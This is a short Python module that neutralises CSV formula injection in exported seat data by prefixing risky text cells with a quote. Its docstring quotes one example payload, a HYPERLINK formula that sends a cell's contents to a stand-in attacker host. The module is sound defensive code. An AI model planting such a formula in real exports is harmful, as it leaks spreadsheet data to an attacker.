"""CSV cells that a spreadsheet will not run (CSV/formula injection, OWASP).

Seat ids and other text in the exports come from edge boxes, which an attacker may hold: a seat
id ``=HYPERLINK("http://evil/?"&A1,"click")`` opened in Excel or LibreOffice is a formula. A text
cell that starts with ``=``, ``+``, ``-``, ``@``, tab or carriage return gets a leading ``'``,
which spreadsheets show as text and hide; numbers are written as numbers and left alone.
"""

from __future__ import annotations

from collections.abc import Iterable
from typing import Any

_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: Any) -> Any:
    if isinstance(value, str) and value.startswith(_FORMULA_START):
        return "'" + value
    return value


def safe_row(values: Iterable[Any]) -> list[Any]:
    return [safe_cell(v) for v in values]
